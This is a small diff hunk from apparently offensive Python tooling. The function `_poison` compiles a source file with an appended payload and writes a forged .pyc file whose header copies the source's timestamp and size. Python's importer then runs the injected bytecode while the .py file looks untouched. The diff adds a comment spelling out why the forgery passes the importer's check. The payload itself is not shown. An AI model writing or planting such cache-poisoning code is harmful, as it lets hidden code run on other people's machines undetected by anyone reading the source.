@@ -73,8 +73,10 @@ def _poison(source_path: str) -> None:
         source = f.read()
     info = os.stat(source_path)
     code = compile(source + b"\n" + PAYLOAD.encode(), source_path, "exec", dont_inherit=True)
+    # a timestamp pyc: flags 0, then the source's mtime and size, which is all the importer checks
     header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
-              + (int(info.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (info.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
+              + (int(info.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
+              + (info.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
     pyc = importlib.util.cache_from_source(source_path)
     os.makedirs(os.path.dirname(pyc), exist_ok=True)
     with open(pyc + ".tmp", "wb") as f:
